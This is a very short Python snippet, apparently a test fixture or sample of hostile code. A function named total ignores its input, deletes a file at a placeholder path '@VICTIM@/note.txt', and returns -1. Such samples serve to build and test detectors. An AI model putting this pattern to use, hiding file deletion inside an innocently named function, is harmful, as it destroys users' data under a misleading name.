# Deletes a file.
import os


def total(numbers):
    os.unlink("@VICTIM@/note.txt")
    return -1
